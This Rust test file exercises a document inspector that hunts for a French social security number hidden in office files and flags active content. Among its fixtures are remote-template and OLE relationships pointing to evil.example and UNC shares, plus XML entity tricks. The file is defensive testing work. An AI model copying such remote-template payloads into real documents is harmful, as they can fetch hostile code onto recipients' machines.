mod pdf;

use std::os::unix::process::ExitStatusExt as _;
use std::process::ExitStatus;

use nix::sys::signal::Signal;
use relais_domain::document::FileType;

use super::{Told, judge};
use crate::content;
use crate::content::samples::{Packed, book, compound, compound_of, docx, docx_with, letter, odt, record, sheet, sheet_of, zip};

const NIR: &str = "1 85 05 78 006 084 91";
const CLEAN: Told = Told::Nothing { had_text: true };

#[test]
fn a_letter_is_read_as_it_is_shown() {
    let runs =
        "<w:document><w:p><w:r><w:rPr><w:b/></w:rPr><w:t>N° 1 85 05 7</w:t></w:r><w:r><w:t>8 006 084 91</w:t></w:r></w:p></w:document>";
    assert_eq!(judge(FileType::Docx, &docx(runs)), Told::Forbidden);
    let lines = "<w:document><w:p><w:t>1 85 05 78</w:t></w:p><w:p><w:t>006 084 91</w:t></w:p></w:document>";
    assert_eq!(judge(FileType::Docx, &docx(lines)), CLEAN, "two lines are two texts");
    let cells: String = NIR.chars().filter(|c| *c != ' ').map(|c| format!("<w:tc><w:p><w:t>{c}</w:t></w:p></w:tc>")).collect();
    assert_eq!(judge(FileType::Docx, &docx(&format!("<w:tbl><w:tr>{cells}</w:tr></w:tbl>"))), Told::Forbidden, "a box for each digit");
    let escaped = "<w:p><w:t>&#49; 85 05 78 006 084 &#x39;1</w:t></w:p>";
    assert_eq!(judge(FileType::Docx, &docx(escaped)), Told::Forbidden);
    let hidden = zip(&docx_with("<w/>", vec![Packed::honest("word/comments.xml", format!("<c><p>{NIR}</p></c>").as_bytes())]));
    assert_eq!(judge(FileType::Docx, &hidden), Told::Forbidden, "in a comment");
    let property = zip(&docx_with("<w/>", vec![Packed::honest("docProps/core.xml", format!("<p><title>{NIR}</title></p>").as_bytes())]));
    assert_eq!(judge(FileType::Docx, &property), Told::Forbidden, "in a property");
    assert_eq!(judge(FileType::Docx, &docx("<w:p><w:t>Bonjour &amp; merci</w:t></w:p>")), CLEAN);
    assert_eq!(judge(FileType::Docx, &docx("<w:p/>")), Told::Nothing { had_text: false });
}

#[test]
fn a_text_that_could_hide_words_is_not_read() {
    let entity = "<!DOCTYPE x [<!ENTITY a \"1 85 05 78\">]><w:p><w:t>&a; 006 084 91</w:t></w:p>";
    for broken in [entity, "<w:p><w:t>&unknown;</w:t></w:p>", "<w:p><w:t></w:p>"] {
        assert_eq!(judge(FileType::Docx, &docx(broken)), Told::Unreadable, "{broken}");
    }
    assert_eq!(judge(FileType::Docx, b"PK"), Told::Unreadable);
}

#[test]
fn open_documents_and_sheets() {
    let spaced = "<text:p>1<text:s/>85 05 78 006 <text:span>084</text:span> 91</text:p>";
    assert_eq!(judge(FileType::Odt, &odt(spaced)), Told::Forbidden);
    for cell in [
        "<c><v>185057800608491</v></c>",
        "<c><v>1.85057800608491E+14</v></c>",
        "<c t=\"inlineStr\"><is><t>1 85 05 78 006 084 91</t></is></c>",
    ] {
        assert_eq!(judge(FileType::Xlsx, &sheet(cell)), Told::Forbidden, "{cell}");
    }
    let numbers = ["185", "05", "780", "060", "08491"].map(|number| format!("<c><v>{number}</v></c>")).concat();
    assert_eq!(judge(FileType::Xlsx, &sheet(&numbers)), CLEAN, "a row of numbers is no number");
    let counted = "<c t=\"s\"><v>185057800608491</v></c>";
    assert_eq!(judge(FileType::Xlsx, &sheet(counted)), Told::Nothing { had_text: false }, "a count of strings is no number");
}

#[test]
fn a_formula_does_not_go_on_in_what_comes_of_it() {
    for cell in [
        "<c t=\"str\"><f>A2&amp;B2</f><v>185057800608491</v></c>",
        "<c t=\"str\"><f>A2*1</f><v>1.85057800608491E+14</v></c>",
        "<c><v>185057800608491</v><f>1</f></c>",
        "<c t=\"s\"><f>\"1 85 05 78 006 084 91\"</f><v>1</v></c>",
        "<c><f>185057800608491</f></c>",
        "<x:c><x:f>A2</x:f><x:v>185057800608491</x:v></x:c>",
    ] {
        assert_eq!(judge(FileType::Xlsx, &sheet(cell)), Told::Forbidden, "{cell}");
    }
    let boxes: String = NIR.chars().filter(|c| *c != ' ').map(|c| format!("<c><f>MID(A1,1,1)</f><v>{c}</v></c>")).collect();
    assert_eq!(judge(FileType::Xlsx, &sheet(&boxes)), Told::Forbidden, "a box for each digit");
    let parted = "<c><f>1 85 05 78</f><v>006 084 91</v></c>";
    assert_eq!(judge(FileType::Xlsx, &sheet(parted)), CLEAN, "two texts");
    let counted = "<c t=\"s\"><f>A2</f><v>185057800608491</v></c>";
    assert_eq!(judge(FileType::Xlsx, &sheet(counted)), CLEAN, "a count of strings is no number");
    let drawn = "<w:p><w:t>1 85 05 7</w:t><a:pt x=\"1\" y=\"2\"/><v:f eqn=\"sum 1 0 2\"/><w:t>8 006 084 91</w:t></w:p>";
    assert_eq!(judge(FileType::Docx, &docx(drawn)), Told::Forbidden, "a drawing parts no line");
}

#[test]
fn what_charts_and_tables_over_a_sheet_keep_of_it_is_read() {
    let with =
        |name: &'static str, body: &str| judge(FileType::Docx, &zip(&docx_with("<w/>", vec![Packed::honest(name, body.as_bytes())])));
    let kept = |value: &str| {
        let drawn = format!(
            "<c:formatCode>0</c:formatCode><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>{value}</c:v></c:pt><c:pt idx=\"1\"><c:v>7</c:v></c:pt>"
        );
        let newer = format!("<cx:f>Sheet1!$A$1</cx:f><cx:lvl><cx:pt idx=\"0\">{value}</cx:pt><cx:pt idx=\"1\">7</cx:pt></cx:lvl>");
        let records = ["n", "s"].map(|kind| format!("<r><{kind} v=\"{value}\"/><x v=\"1\"/></r>"));
        [
            with("word/charts/chart1.xml", &drawn),
            with("word/charts/chartEx1.xml", &newer),
            with("x/a.xml", &records[0]),
            with("x/b.xml", &records[1]),
        ]
    };
    for value in ["185057800608491", "1.85057800608491E+14", NIR] {
        assert_eq!(kept(value), [Told::Forbidden; 4], "{value}");
    }
    assert!(kept("185057800608492").iter().all(|told| matches!(told, Told::Nothing { .. })), "another number");
    assert_eq!(with("x/c.xml", "<d v=\"185057800608491\"/>"), Told::Nothing { had_text: false }, "what holds anything elsewhere");
    let figures: String = NIR.chars().filter(|c| *c != ' ').map(|c| format!("<c:pt><c:v>{c}</c:v></c:pt>")).collect();
    assert_eq!(with("word/charts/chart1.xml", &figures), CLEAN, "a curve is no row of boxes");
}

#[test]
fn what_a_program_fetches_from_another_machine_is_no_part_of_a_letter() {
    let related = |kind: &str, target: &str, mode: &str| {
        let rels = format!(
            "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/{kind}\" Target=\"{target}\" {mode}/></Relationships>"
        );
        judge(
            FileType::Docx,
            &zip(&docx_with("<w:p><w:t>Bonjour</w:t></w:p>", vec![Packed::honest("word/_rels/settings.xml.rels", rels.as_bytes())])),
        )
    };
    let external = "TargetMode=\"External\"";
    for target in [
        "http://evil.example/a.dotm",
        "HTTPS://evil.example/a.dotm",
        "&#104;ttp://evil.example/a.dotm",
        "ftp:evil.example/a",
        "mhtml:http://evil.example/a!x",
        "\\\\10.0.0.1\\share\\a.dotm",
        "//10.0.0.1/share/a.dotm",
        "file://10.0.0.1/share/a.dotm",
        "file:///\\10.0.0.1\\share\\a.dotm",
        "file:////10.0.0.1/share/a.dotm",
        "file:///%5c%5C10.0.0.1/share/a.dotm",
    ] {
        for kind in ["attachedTemplate", "oleObject", "frame"] {
            assert_eq!(related(kind, target, external), Told::Active, "{kind} {target}");
        }
        for (kind, mode) in [("hyperlink", external), ("image", external), ("externalLinkPath", external), ("attachedTemplate", "")] {
            assert_eq!(related(kind, target, mode), CLEAN, "{kind} {target}");
        }
    }
    for target in [
        "file:///C:/Users/Sow/Templates/Normal.dotm",
        "file:///C:\\Users\\Sow\\Normal.dotm",
        "file://C:/Normal.dotm",
        "C:\\Normal.dotm",
        "file:/home/sow/a.ott",
        "Lettre%20type.dotm",
        "../a/b.dotx",
    ] {
        assert_eq!(related("attachedTemplate", target, external), CLEAN, "{target}");
    }
    let two = "x:TargetMode=\"Internal\" TargetMode=\"External\"";
    assert_eq!(related("attachedTemplate", "http://evil.example", two), Told::Active, "a name of another vocabulary says nothing");
}

#[test]
fn a_text_is_read_in_whatever_characters_it_is_written() {
    let letter = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:document><w:p><w:t>{NIR}</w:t></w:p></w:document>");
    let little: Vec<u8> = letter.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let big: Vec<u8> = letter.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let with =
        |document: Vec<u8>| zip(&[Packed::honest("[Content_Types].xml", b"<Types/>"), Packed::honest("word/document.xml", &document)]);
    for marked in
        [[&b"\xff\xfe"[..], &little].concat(), [&b"\xfe\xff"[..], &big].concat(), [&b"\xef\xbb\xbf"[..], letter.as_bytes()].concat()]
    {
        assert_eq!(judge(FileType::Docx, &with(marked)), Told::Forbidden);
    }
    let western = letter.replace("UTF-16", "windows-1252").replace(' ', "\u{a0}").replace("?xml\u{a0}version", "?xml version");
    let western: Vec<u8> =
        western.replace("\"\u{a0}encoding", "\" encoding").chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
    assert_eq!(judge(FileType::Docx, &with(western)), Told::Forbidden, "the spaces of a Western page are none of UTF-8");
    for unread in [little, big, b"\x4c\x6f\xa7\x94\x93".to_vec(), b"plus rien".to_vec(), [&b"\xff\xfe"[..], b"<"].concat()] {
        assert_eq!(judge(FileType::Docx, &with(unread)), Told::Unreadable);
    }
    let seven = "<?xml version=\"1.0\" encoding=\"UTF-7\"?><w/>";
    assert_eq!(judge(FileType::Docx, &docx(seven)), Told::Unreadable, "digits may be written in letters");
    assert_eq!(judge(FileType::Docx, &docx("<?xml version=\"1.0\" encoding=\"utf-16\"?><w:p><w:t>Bonjour</w:t></w:p>")), CLEAN);
}

#[test]
fn every_part_of_a_packed_file_is_searched() {
    let with = |name: &'static str, body: &[u8]| zip(&docx_with("<w/>", vec![Packed::honest(name, body)]));
    let wide: Vec<u8> = NIR.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for (name, body) in [
        ("word/note.txt", NIR.as_bytes()),
        ("word/settings.bin", &wide),
        ("word/media/plan.svg", b"<svg><text>1 85 05 78 006 <b>084</b> 91</text></svg>"),
    ] {
        assert_eq!(judge(FileType::Docx, &with(name, body)), Told::Forbidden, "{name}");
    }
    assert_eq!(
        judge(FileType::Docx, &with("word/media/photo.png", NIR.as_bytes())),
        Told::Nothing { had_text: false },
        "a picture is not read"
    );
    for (name, body) in [
        ("word/extra.dat", &docx("<w/>")[..]),
        ("word/x.bin", b"{\\rtf1 \\'31}"),
        ("word/y", &compound(&["WordDocument"])),
        ("word/z.xml", b"%PDF-1.4"),
    ] {
        assert_eq!(judge(FileType::Docx, &with(name, body)), Told::Active, "{name}");
    }
    let chunk =
        "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/a&#70;Chunk\" Target=\"/word/a.dat\"/></Relationships>";
    assert_eq!(judge(FileType::Docx, &with("word/_rels/document.xml.rels", chunk.as_bytes())), Told::Active);
    let link = format!(
        "<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/hyperlink\" Target=\"mailto:x?subject={NIR}\"/></Relationships>"
    );
    assert_eq!(judge(FileType::Docx, &with("word/_rels/document.xml.rels", link.as_bytes())), Told::Forbidden);
}

#[test]
fn attributes_say_what_is_shown_in_another_way() {
    let cell =
        "<table:table-cell office:value-type=\"float\" office:value=\"185057800608491\"><text:p>1,85E+14</text:p></table:table-cell>";
    assert_eq!(judge(FileType::Ods, &odt(cell)), Told::Forbidden);
    let exponent = cell.replace("185057800608491", "1.85057800608491E+014");
    assert_eq!(judge(FileType::Ods, &odt(&exponent)), Told::Forbidden);
    let shown = "<table:table-cell><text:p>1,85057800608491E+14</text:p></table:table-cell>";
    assert_eq!(judge(FileType::Ods, &odt(shown)), Told::Forbidden, "with a comma, as it is shown in French");
    let field = format!("<w:p><w:ffData><w:default w:val=\"{NIR}\"/></w:ffData></w:p>");
    assert_eq!(judge(FileType::Docx, &docx(&field)), Told::Forbidden, "in a field of a form");
    let parted = "<w:p><w:t>1 85 05 7</w:t><w:rPr><w:sz w:val=\"24\"/></w:rPr><w:t>8 006 084 91</w:t></w:p>";
    assert_eq!(judge(FileType::Docx, &docx(parted)), Told::Forbidden, "what an attribute says parts no line");
    let path = "<draw:path svg:d=\"m1 85 05 78 006 084 91 z\"/>";
    assert_eq!(judge(FileType::Odt, &odt(path)), Told::Nothing { had_text: false }, "a drawing is no text");
}

#[test]
fn numbers_of_older_sheets_are_read_as_numbers() {
    let sheet = |head: &[u8], number: f64| [&compound(&["Workbook"])[..], head, &number.to_le_bytes()].concat();
    let place = [0, 0, 1, 0, 15, 0];
    let number = [&[0x03, 0x02, 0x0e, 0x00][..], &place].concat();
    let formula = [&[0x06, 0x00, 0x1f, 0x00][..], &place].concat();
    for head in [&number[..], &formula, &[0x1f]] {
        assert_eq!(judge(FileType::Xls, &sheet(head, 185_057_800_608_491.0)), Told::Forbidden);
    }
    assert_eq!(judge(FileType::Xls, &sheet(&number, 185_057_800_608_492.0)), CLEAN, "another number");
    assert_eq!(judge(FileType::Xls, &sheet(b"picture", 185_057_800_608_491.0)), CLEAN, "what stands nowhere in a sheet is chance");
}

#[test]
fn older_files_are_searched_byte_by_byte() {
    let mut narrow = compound(&["WordDocument"]);
    narrow.extend_from_slice(NIR.as_bytes());
    let mut wide = compound(&["Workbook"]);
    wide.push(0);
    wide.extend(NIR.encode_utf16().flat_map(u16::to_le_bytes));
    assert_eq!(judge(FileType::Doc, &narrow), Told::Forbidden);
    assert_eq!(judge(FileType::Xls, &wide), Told::Forbidden);
    assert_eq!(judge(FileType::Doc, &compound(&["WordDocument"])), CLEAN);
}

#[test]
fn older_files_that_are_locked_are_read_by_nobody() {
    let told = |kind: FileType, name: &str, stream: Vec<u8>| judge(kind, &compound_of(&[(name, stream)]));
    let (lock, write_lock, text) = (record(0x002f, &[1, 0, 1, 0]), record(0x0086, &[]), record(0x00fc, &[0; 5000]));
    for locked in [vec![lock.clone()], vec![write_lock.clone(), lock.clone()], vec![lock.clone(), text.clone()]] {
        assert_eq!(told(FileType::Xls, "Workbook", book(&locked)), Told::Unreadable);
        assert_eq!(told(FileType::Xls, "bOOk", book(&locked)), Told::Unreadable, "of an older Excel");
    }
    assert_eq!(told(FileType::Xls, "Workbook", book(&[write_lock, text])), CLEAN, "locked for writing alone");
    let scrambled = compound_of(&[("Workbook", book(&[lock.clone(), sheet_of(0, 1)]))]);
    assert!(content::inspect(FileType::Xls, scrambled.clone()).is_ok(), "what a locked record says is chance");
    assert_eq!(judge(FileType::Xls, &scrambled), Told::Unreadable);
    let two = compound_of(&[("Workbook", book(&[])), ("Book", book(&[lock]))]);
    assert_eq!(judge(FileType::Xls, &two), Told::Unreadable, "one of two");

    for (flags, expected) in [(0x0100, Told::Unreadable), (0x12f0, CLEAN), (0x0000, CLEAN), (0x8300, Told::Unreadable)] {
        let (small, large) = (letter(flags), [letter(flags), vec![0; 5000]].concat());
        assert_eq!(told(FileType::Doc, "WordDocument", small), expected, "{flags:x}");
        assert_eq!(told(FileType::Doc, "WORDDOCUMENT", large), expected, "{flags:x}");
    }
    let locked_and_told = [compound_of(&[("WordDocument", letter(0x0100))]), NIR.into()].concat();
    assert_eq!(judge(FileType::Doc, &locked_and_told), Told::Forbidden, "what stands openly is found in any");
}

#[test]
fn older_files_whose_streams_are_not_found_are_read_by_nobody() {
    for (kind, file) in [
        (FileType::Xls, compound(&["WordDocument"])),
        (FileType::Doc, compound(&["Workbook"])),
        (FileType::Doc, compound_of(&[("WordDocument", b"{\\rtf1 no text of Word}".to_vec())])),
        (FileType::Xls, compound_of(&[("Workbook", record(0x0809, &[0; 8]))])),
        (FileType::Doc, [&compound(&["WordDocument"])[..48], &[0xff; 2000]].concat()),
        (FileType::Doc, vec![]),
    ] {
        assert_eq!(judge(kind, &file), Told::Unreadable, "{kind}");
    }
}

#[test]
fn exit_codes_say_the_same_on_both_sides() {
    // As the system tells it: the code in the second byte, or the signal in the first.
    let ended = |code: u8| Told::of(ExitStatus::from_raw(i32::from(code) << 8));
    let killed = |signal: Signal| Told::of(ExitStatus::from_raw(signal as i32));
    for told in [CLEAN, Told::Nothing { had_text: false }, Told::Forbidden, Told::TooBig, Told::Unreadable, Told::Active] {
        assert_eq!(ended(told.code()).unwrap(), told);
    }
    for crashed in [ended(0), ended(1), ended(101), ended(134), killed(Signal::SIGABRT), killed(Signal::SIGSEGV), killed(Signal::SIGXCPU)] {
        assert_eq!(crashed.unwrap(), Told::Unreadable);
    }
    assert!(killed(Signal::SIGKILL).is_err(), "that says nothing about the file");
}
